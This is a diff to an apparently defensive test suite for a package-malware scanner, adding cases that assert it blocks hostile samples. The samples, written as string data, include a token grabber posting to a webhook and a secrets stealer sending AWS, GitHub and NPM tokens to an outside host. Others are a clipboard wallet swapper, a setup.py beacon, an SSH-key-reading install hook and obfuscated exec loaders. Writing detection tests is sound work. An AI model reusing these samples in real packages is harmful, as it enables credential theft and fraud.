@@ -419,7 +419,10 @@ def test_a_shell_wired_to_a_socket_blocks_but_a_download_piped_into_tar_does_not
 def test_a_pth_hook_that_imports_its_own_shim_is_allowed_and_one_that_decodes_blocks(
     tmp_path: Path,
 ) -> None:
-    shim = "import os; enabled = os.environ.get('X', 'local') == 'local'; enabled and __import__('_x').add_shim();\n"
+    shim = (
+        "import os; enabled = os.environ.get('X', 'local') == 'local'; "
+        "enabled and __import__('_x').add_shim();\n"
+    )
     assert _decision(_package(tmp_path, "shim", {"x.pth": shim, "_x/__init__.py": ""})) == "ALLOW"
     hidden = "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"
     assert _decision(_package(tmp_path, "hidden", {"x.pth": hidden})) == "BLOCK"
@@ -429,7 +432,8 @@ def test_harvesting_messenger_token_stores_to_a_webhook_blocks(tmp_path: Path) -
     grabber = (
         "import os, requests\n\nHOOK = 'https://discord.com/api/webhooks/1/abc'\n\n"
         "def stores():\n    base = os.getenv('APPDATA', '')\n"
-        "    return [\n        os.path.join(base, 'discord', 'Local Storage', 'leveldb'),\n    ]\n\n"
+        "    return [\n"
+        "        os.path.join(base, 'discord', 'Local Storage', 'leveldb'),\n    ]\n\n"
         "def run():\n    for s in stores():\n        for n in os.listdir(s):\n"
         "            requests.post(HOOK, data=open(os.path.join(s, n), 'rb').read())\n"
     )
@@ -457,3 +461,84 @@ def test_a_decoded_string_compiled_as_a_module_blocks(tmp_path: Path) -> None:
         "m._compile(d(process.env.npm_package_description || ''), '');\n"
     )
     assert _decision(_package(tmp_path, "mod", {"index.js": loader})) == "BLOCK"
+
+
+def test_tokens_of_several_services_sent_elsewhere_block_but_a_client_using_its_own_does_not(
+    tmp_path: Path,
+) -> None:
+    thief = (
+        "import os, requests\n\ndef sync():\n"
+        "    requests.post('https://metrics.example.net/c', json={\n"
+        "        'a': os.environ.get('AWS_SECRET_ACCESS_KEY'),\n"
+        "        'g': os.environ.get('GITHUB_TOKEN'),\n"
+        "        'n': os.getenv('NPM_TOKEN'),\n    })\n"
+    )
+    report = _package(tmp_path, "thief", {"t/__init__.py": thief})
+    assert _decision(report) == "BLOCK"
+    own = (
+        "import os, requests\n\ndef whoami():\n    token = os.environ['GITHUB_TOKEN']\n"
+        "    return requests.get('https://api.github.com/user', "
+        "headers={'Authorization': f'Bearer {token}'}).json()\n"
+    )
+    assert _decision(_package(tmp_path, "own", {"o/__init__.py": own})) == "ALLOW"
+
+
+def test_a_clipboard_wallet_swapper_blocks(tmp_path: Path) -> None:
+    clipper = (
+        "import re, time, pyperclip\n\nMINE = 'bc1qexampleexampleexampleexample'\n"
+        "BTC = re.compile(r'^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$')\n\n"
+        "def watch():\n    while True:\n        text = pyperclip.paste()\n"
+        "        if BTC.match(text):\n            pyperclip.copy(MINE)\n        time.sleep(1)\n"
+    )
+    report = _package(tmp_path, "clip", {"c/__init__.py": clipper})
+    assert _decision(report) == "BLOCK"
+
+
+def test_host_identity_sent_from_setup_py_is_flagged(tmp_path: Path) -> None:
+    setup = (
+        "import getpass, socket, urllib.request\nfrom setuptools import setup\n\n"
+        "urllib.request.urlopen('https://collect.example.net/i?u=' + getpass.getuser()\n"
+        "                       + '&h=' + socket.gethostname())\n"
+        "setup(name='corp-utils-internal', version='1.0.0')\n"
+    )
+    assert _decision(_package(tmp_path, "beacon", {"setup.py": setup})) != "ALLOW"
+
+
+def test_code_hidden_in_a_media_file_or_an_encoded_powershell_command_blocks(
+    tmp_path: Path,
+) -> None:
+    steg = (
+        "import os\n\ndef load():\n    data = open(os.path.join(os.path.dirname(__file__), "
+        "'ring.wav'), 'rb').read()\n    exec(bytes(b ^ 0x5A for b in data[44:]))\n\nload()\n"
+    )
+    assert _decision(_package(tmp_path, "steg", {"s/__init__.py": steg})) == "BLOCK"
+    ps = (
+        "const { execSync } = require('child_process');\n"
+        "execSync('powershell -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=');\n"
+    )
+    assert _decision(_package(tmp_path, "ps", {"index.js": ps})) == "BLOCK"
+
+
+def test_a_decoded_string_evaluated_lines_later_blocks(tmp_path: Path) -> None:
+    js = (
+        "const blob = 'Y29uc29sZS5sb2coMSk=';\n"
+        "const code = Buffer.from(blob, 'base64').toString();\n"
+        "setTimeout(() => {\n  eval(code);\n}, 1000);\n"
+    )
+    assert _decision(_package(tmp_path, "js", {"index.js": js})) == "BLOCK"
+
+
+def test_a_setup_py_install_command_calling_a_stealing_helper_is_an_install_hook(
+    tmp_path: Path,
+) -> None:
+    setup = (
+        "import os\nfrom setuptools import setup\n"
+        "from setuptools.command.install import install\n\n"
+        "def _collect():\n    with open(os.path.expanduser('~/.ssh/id_rsa')) as f:\n"
+        "        return f.read()\n\n"
+        "class PostInstall(install):\n    def run(self):\n        install.run(self)\n"
+        "        _collect()\n\n"
+        "setup(name='x', version='1.0', cmdclass={'install': PostInstall})\n"
+    )
+    report = _package(tmp_path, "cmd", {"setup.py": setup})
+    assert "install_hook" in {f["category"] for f in report["findings"]}
